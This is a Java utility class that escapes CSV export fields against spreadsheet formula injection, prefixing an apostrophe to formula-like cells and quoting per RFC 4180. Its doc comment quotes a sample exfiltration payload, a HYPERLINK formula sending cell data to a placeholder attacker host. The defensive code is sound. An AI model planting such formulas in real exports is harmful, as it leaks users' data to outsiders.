package io.gridcast.server.dataset;

import java.util.regex.Pattern;

/**
 * A text field as the CSV exports write it, safe to open in a spreadsheet. A cell whose text starts
 * with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return is a formula to
 * Excel, LibreOffice and Google Sheets ({@code =HYPERLINK("http://evil.example?"&A1,"open")} sends
 * the sheet's data away when clicked); such text is written with a leading apostrophe, which the
 * spreadsheets show as text and do not evaluate. A plain number ({@code -3}, {@code +1.5e3}) is
 * left as it is: it is no formula. A field holding a comma, a quote or a line break is then quoted,
 * with quotes doubled (RFC 4180).
 *
 * <p>The JSON answers carry every name exactly as uploaded; only CSV changes it, and only so.
 * Stateless.
 */
public final class CsvCell {
  private static final Pattern NUMBER =
      Pattern.compile("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?");

  private CsvCell() {}

  /** {@code s} as one CSV field: neutralised when a spreadsheet would read a formula, quoted. */
  public static String of(String s) {
    String text = formula(s) ? "'" + s : s;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == ',' || c == '"' || c == '\n' || c == '\r') {
        return '"' + text.replace("\"", "\"\"") + '"';
      }
    }
    return text;
  }

  /** Whether a spreadsheet would take {@code s} for a formula. */
  static boolean formula(String s) {
    if (s.isEmpty()) {
      return false;
    }
    char c = s.charAt(0);
    boolean trigger = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    return trigger && !NUMBER.matcher(s).matches();
  }
}
